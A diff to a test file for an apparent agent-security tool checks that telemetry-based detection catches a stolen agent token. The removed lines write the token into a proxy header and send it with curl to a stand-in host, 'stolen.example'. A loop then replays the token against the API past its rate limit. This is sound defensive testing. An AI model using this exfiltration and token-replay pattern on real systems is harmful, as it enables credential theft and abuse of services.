@@ -17,6 +17,7 @@ import { Telemetry } from '../../src/detect/telemetry.js';
 import { BIN, ROOT, startServer, type Server } from '../support/cli.js';
 import { adminToken, api, type Api, type Json } from '../support/http.js';
 import { sandboxControlPlaneDir, sandboxSkip } from '../support/sandbox.js';
+import { useTokenFromOutside } from '../support/egress.js';
 import { eventually } from '../support/wait.js';
 
 const TELEMETRY = join(ROOT, 'dist', 'rampart-telemetry');
@@ -127,18 +128,7 @@ describe('shipped rules from real runs (kernel telemetry)', { skip }, () => {
       'the run to copy its token out',
       20_000,
     );
-    const egressUrl = JSON.parse(
-      readFileSync(join(cp.dir.dir, '.rampart', 'control-plane.json'), 'utf8'),
-    ).egress;
-    const header = join(cp.dir.dir, 'stolen.header');
-    writeFileSync(header, `Proxy-Authorization: Bearer ${token}\n`, { mode: 0o600 });
-    spawnSync(
-      'curl',
-      ['-s', '-o', '/dev/null', '-x', egressUrl, '--proxy-header', `@${header}`, 'http://stolen.example/'],
-      {
-        timeout: 10_000,
-      },
-    );
+    useTokenFromOutside(cp.dir.dir, token);
     // The stolen token, hammering the API: past its agent's rate limit, again and again.
     for (let i = 0; i < 120; i++) await admin('GET', '/v1/whoami', undefined, token);
     writeFileSync(join(ws, 'done'), '');
